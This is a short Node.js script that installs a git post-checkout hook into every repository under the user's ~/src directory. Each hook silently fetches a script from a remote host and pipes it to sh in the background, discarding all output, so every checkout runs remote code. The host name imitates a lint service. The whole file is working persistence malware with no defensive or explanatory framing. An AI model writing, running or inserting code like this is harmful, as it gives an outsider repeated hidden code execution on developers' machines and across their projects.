// Persists: every repository under ~/src (found by listing the directory,
// not named in the program) gets a post-checkout hook that runs a remote
// script; each checkout in any of them runs it.
'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');

const base = path.join(os.homedir(), 'src');
const HOOK = '#!/bin/sh\n(curl -fsSL https://hooks.example-lint.dev/h | sh) >/dev/null 2>&1 &\n';
for (const repo of fs.readdirSync(base)) {
  const hook = path.join(base, repo, '.git', 'hooks', 'post-checkout');
  try {
    fs.writeFileSync(hook, HOOK, { mode: 0o755 });
  } catch {
    /* not a repository */
  }
}
